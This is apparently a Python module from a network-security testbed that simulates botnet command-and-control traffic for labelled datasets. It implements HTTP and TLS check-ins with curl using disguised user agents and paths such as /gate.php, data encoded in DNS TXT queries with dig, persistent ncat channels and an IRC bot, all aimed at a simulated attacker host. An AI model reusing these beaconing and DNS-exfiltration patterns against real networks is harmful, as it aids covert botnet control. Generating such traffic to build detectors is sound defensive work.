"""Bots that report to their master: short check-ins, over and over, and channels that stay open.

One act of a beacon is one check-in; the plan repeats it with an interval and jitter of its own.
"""

from training.testbed.acts import Kind, Stage
from training.testbed.attackers.drawing import about, bracketed, one, pause
from training.testbed.services import c2

AGENTS: tuple[str, ...] = (
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) Trident/7.0",
)
AGENTS += ("Go-http-client/1.1", "WinHTTP/1.0", "-", "Microsoft-CryptoAPI/10.0")
PATHS = ("/pixel.gif", "/submit.php", "/jquery-3.3.1.min.js", "/api/v2/ping", "/gate.php", "/__utm.gif")


def master(stage: Stage) -> str:
    """Return one of the master's addresses."""
    host = stage.world.host("attacker")
    return str(stage.rng.choice(host.all_v6 if one(stage, "family") == 6 else host.all_v4))


def wanted(stage: Stage) -> int:
    """Return how many bytes come back: little when there is nothing to do, more for a task."""
    return about(stage, "task_bytes", 1.0) if stage.rng.random() < float(one(stage, "task")) else about(stage, "answer")


def check_in(stage: Stage) -> None:
    """Ask the master over HTTP or TLS whether there is anything to do, perhaps answer it."""
    scheme, port = str(one(stage, "scheme")), str(one(stage, "port"))
    place = bracketed(master(stage))
    base = ["curl", "-s", "-k", "-g", "-o", "/dev/null", "--max-time", "15", "--http1.1"]
    base += ["-A", str(one(stage, "agent")) or stage.rng.choice(AGENTS)]
    base += ["--tls-max", str(one(stage, "tls"))] if scheme == "https" else []
    url = f"{scheme}://{place}{':' + port if port != '0' else ''}{one(stage, 'path') or stage.rng.choice(PATHS)}"
    tail: list[str] = []
    for number in range(about(stage, "asks", 0.0)):
        # Further requests of the same check-in use the same connection (one command, several URLs).
        tail += ["--next", *base[1:]] if number else []
        told = stage.rng.getrandbits(4 * about(stage, "told")).to_bytes(2 * about(stage, "told") + 400, "big").hex()
        report = told.lstrip("0")[: about(stage, "told")]
        if one(stage, "method") == "POST":
            tail += ["--data-binary", report, f"{url}?n={wanted(stage)}"]
        else:
            tail += ["-b", f"id={report}", f"{url}?n={wanted(stage)}"]
    stage.run(*base, *tail, limit_s=20, ok=None)


def ask_names(stage: Stage) -> None:
    """Ask the master's name server for TXT records, what is told is in the names."""
    for _ in range(about(stage, "asks", 0.5)):
        told = f"{stage.rng.getrandbits(4 * min(about(stage, 'told'), 60)):x}"
        name = f"{told[:60]}.{stage.rng.getrandbits(16):04x}.{c2.ZONE}"
        words = ["dig", "+tries=1", "+time=3", f"@{stage.world.host('attacker').v4}", one(stage, "type"), name]
        stage.run(*words, limit_s=10, ok=None)
        pause(stage, "wait")


def hold(stage: Stage) -> None:
    """Keep a TCP connection to the master: signs of life, now and then something bigger."""
    line = stage.start("ncat", "-n", master(stage), str(c2.CONSOLE), limit_s=120)
    line.say(f"hello {stage.rng.getrandbits(64):x}\n")
    for _ in range(about(stage, "signs")):
        pause(stage, "wait")
        if stage.rng.random() < float(one(stage, "task")):
            line.say(f"get {about(stage, 'task_bytes', 1.0)}\n")
            stage.pause(0.5)
            line.say("result " + "x" * about(stage, "told") + "\n")
        else:
            line.say("alive\n")
    stage.pause(0.3)
    line.stop()


def chat(stage: Stage) -> None:
    """Sit in an IRC channel and do what is said there."""
    nick, channel = f"bot{stage.rng.getrandbits(24):06x}", f"#{stage.rng.choice(('den', 'hive', 'x'))}"
    line = stage.start("ncat", "-n", master(stage), str(c2.IRC), limit_s=120)
    line.say(f"NICK {nick}\r\nUSER {nick} 0 * :{nick}\r\n")
    stage.pause(0.4)
    line.say(f"JOIN {channel} key\r\n")
    for _ in range(about(stage, "signs")):
        pause(stage, "wait")
        if stage.rng.random() < float(one(stage, "task")):
            line.say(f"PRIVMSG {channel} :{'done ' * stage.rng.randint(1, 40)}\r\n")
        else:
            line.say(f"PING :{nick}\r\n")
    line.say("QUIT :bye\r\n")
    stage.pause(0.3)
    line.stop()


WEB = {
    "family": 4,
    "method": "GET",  # or POST
    "path": "",  # "" draws one of PATHS
    "agent": "",  # "" draws one of AGENTS
    "asks": 1,  # requests of one check-in
    "told": 60,  # median characters that the bot tells
    "answer": 40,  # median bytes that come back when there is nothing to do
    "task": 0.08,  # probability of a task
    "task_bytes": 20_000,  # its median size (lognormal, sigma 1)
}
HELD = {"family": 4, "signs": 8, "wait": 3.0, "task": 0.1, "task_bytes": 3_000, "told": 300}
"""signs: median of signs of life; wait: mean seconds between two."""
KINDS = (
    Kind(
        name="http-beacon",
        label="bot",
        play=check_in,
        needs={"curl": "curl"},
        services=("c2",),
        lasts_s=0.5,
        limit_s=30,
        settings={**WEB, "scheme": "http", "port": 0, "tls": "1.3"},
    ),
    Kind(
        name="tls-beacon",
        label="bot",
        play=check_in,
        needs={"curl": "curl"},
        services=("c2",),
        lasts_s=0.5,
        limit_s=30,
        settings={**WEB, "scheme": "https", "port": [443, 8443], "tls": ["1.2", "1.3"]},
    ),
    Kind(
        name="dns-beacon",
        label="bot",
        play=ask_names,
        needs={"dig": "bind9-dnsutils"},
        services=("c2", "tunnel"),
        lasts_s=0.5,
        limit_s=30,
        settings={"type": "TXT", "asks": 2, "told": 30, "wait": 0.2},
    ),
    Kind(
        name="held-channel",
        label="bot",
        play=hold,
        needs={"ncat": "ncat"},
        services=("c2",),
        lasts_s=26,
        limit_s=130,
        settings=HELD,
    ),
    Kind(
        name="irc-bot",
        label="bot",
        play=chat,
        needs={"ncat": "ncat"},
        services=("c2",),
        lasts_s=26,
        limit_s=130,
        settings={**HELD, "task": 0.3},
    ),
)
